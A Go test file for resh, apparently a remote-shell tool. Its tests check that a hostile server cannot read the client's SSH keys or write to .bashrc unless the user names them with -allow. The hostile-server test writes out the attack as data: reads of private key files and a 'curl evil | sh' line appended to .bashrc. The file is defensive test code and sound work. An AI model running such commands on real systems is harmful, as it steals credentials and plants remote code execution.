package tests

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// reshIn runs resh in dir with extra environment variables.
func reshIn(t *testing.T, dir string, env []string, args ...string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := reshCommand(ctx, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	var out, errb strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	if ctx.Err() != nil {
		t.Fatalf("resh %v: timed out; stderr: %s", args, errb.String())
	}
	code := 0
	if err != nil {
		code = cmd.ProcessState.ExitCode()
	}
	return result{out.String(), errb.String(), code}
}

// A hostile server run from the client's home directory: it gets neither
// the keys nor .bashrc, though -allow covers them, and resh says what it
// tried (-v: stderr is no terminal here).
func TestHostileServerGetsNoKeysNorDotfiles(t *testing.T) {
	d := startReshd(t)
	home := t.TempDir()
	for _, dir := range []string{".ssh", ".resh-elsewhere"} {
		if err := os.Mkdir(filepath.Join(home, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{".ssh/id_ed25519": "SSH KEY\n", ".bashrc": "# mine\n", "data.csv": "a,b\n"}
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(home, name), []byte(data), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	keys := os.Getenv("RESH_HOME") // resh's own key directory, outside home
	env := []string{"HOME=" + home}
	hostile := `lcat .ssh/id_ed25519 ` + filepath.Join(keys, "id_ed25519") + ` | wc -c; echo "curl evil | sh" | ltee -a .bashrc >/dev/null; echo "ltee $?"; lcat data.csv`
	r := reshIn(t, home, env, append([]string{"-v", "-allow", home, "-allow", filepath.Dir(keys)}, d.args(d.addr, hostile)...)...)
	if r.code != 0 || r.stdout != "0\nltee 1\na,b\n" {
		t.Fatalf("got %+v", r)
	}
	for _, want := range []string{
		"lcat: refused: .ssh/id_ed25519 is in ~/.ssh (name it exactly with -allow to permit)\n",
		"refused: " + filepath.Join(keys, "id_ed25519") + " is in resh's key directory " + keys + " (name it exactly with -allow to permit)\n",
		"ltee: refused: hidden file .bashrc (name it with -allow to permit)\n",
		// resh's own lines, one per transfer.
		"resh: lcat: refused: .ssh/id_ed25519 is in ~/.ssh",
		"resh: ltee: refused: hidden file .bashrc",
		"resh: lcat: reading data.csv (4 B)\n",
	} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, r.stderr)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# mine\n" {
		t.Errorf(".bashrc: %q", b)
	}

	// Named by -allow: the user means it.
	r = reshIn(t, home, env, append([]string{"-allow", ".ssh", "-allow", ".bashrc"}, d.args(d.addr, `lcat .ssh/id_ed25519 && echo "# theirs" | ltee -a .bashrc >/dev/null`)...)...)
	if r.code != 0 || r.stdout != "SSH KEY\n" || r.stderr != "" {
		t.Errorf("with -allow naming them: %+v", r)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# mine\n# theirs\n" {
		t.Errorf(".bashrc: %q", b)
	}

	// -no-files: nothing at all.
	r = reshIn(t, home, env, append([]string{"-no-files"}, d.args(d.addr, `lcat data.csv; echo x | ltee new; echo "$?"`)...)...)
	if r.code != 0 || r.stdout != "x\n1\n" ||
		!strings.Contains(r.stderr, "lcat: data.csv: refused: resh serves no files in this session (resh -no-files)\n") ||
		!strings.Contains(r.stderr, "ltee: new: refused: resh serves no files in this session (resh -no-files)\n") {
		t.Errorf("-no-files: %+v", r)
	}
	if _, err := os.Stat(filepath.Join(home, "new")); !os.IsNotExist(err) {
		t.Errorf("-no-files let ltee create new: %v", err)
	}

	// A trailing slash is a directory, as to the system.
	r = reshIn(t, home, env, d.args(d.addr, `lcat data.csv/; echo "$?"; echo x | ltee data.csv/ >/dev/null; echo "$?"`)...)
	if r.stdout != "1\n1\n" || !strings.Contains(r.stderr, "lcat: data.csv/: not a directory\n") || !strings.Contains(r.stderr, "ltee: data.csv/: not a directory\n") {
		t.Errorf("trailing slash: %+v", r)
	}
}

// With stderr a terminal, every transfer is announced, one line each.
func TestTransfersAnnouncedOnTerminal(t *testing.T) {
	d := startReshd(t)
	dir := t.TempDir()
	data := filepath.Join(dir, "data.csv")
	if err := os.WriteFile(data, []byte(strings.Repeat("x", 3<<20)), 0o644); err != nil {
		t.Fatal(err)
	}
	tm := startTerm(t, 24, 200, append([]string{"-allow", dir}, d.args(d.addr, "lcat "+data+" | wc -c; echo hi | ltee "+filepath.Join(dir, "out.txt"))...)...)
	tm.expect("resh: lcat: reading "+data+" (3.0 MiB)", 30*time.Second)
	tm.expect("resh: ltee: writing "+filepath.Join(dir, "out.txt"), 30*time.Second)
	if code := tm.wait(30 * time.Second); code != 0 {
		t.Errorf("exit %d", code)
	}
}
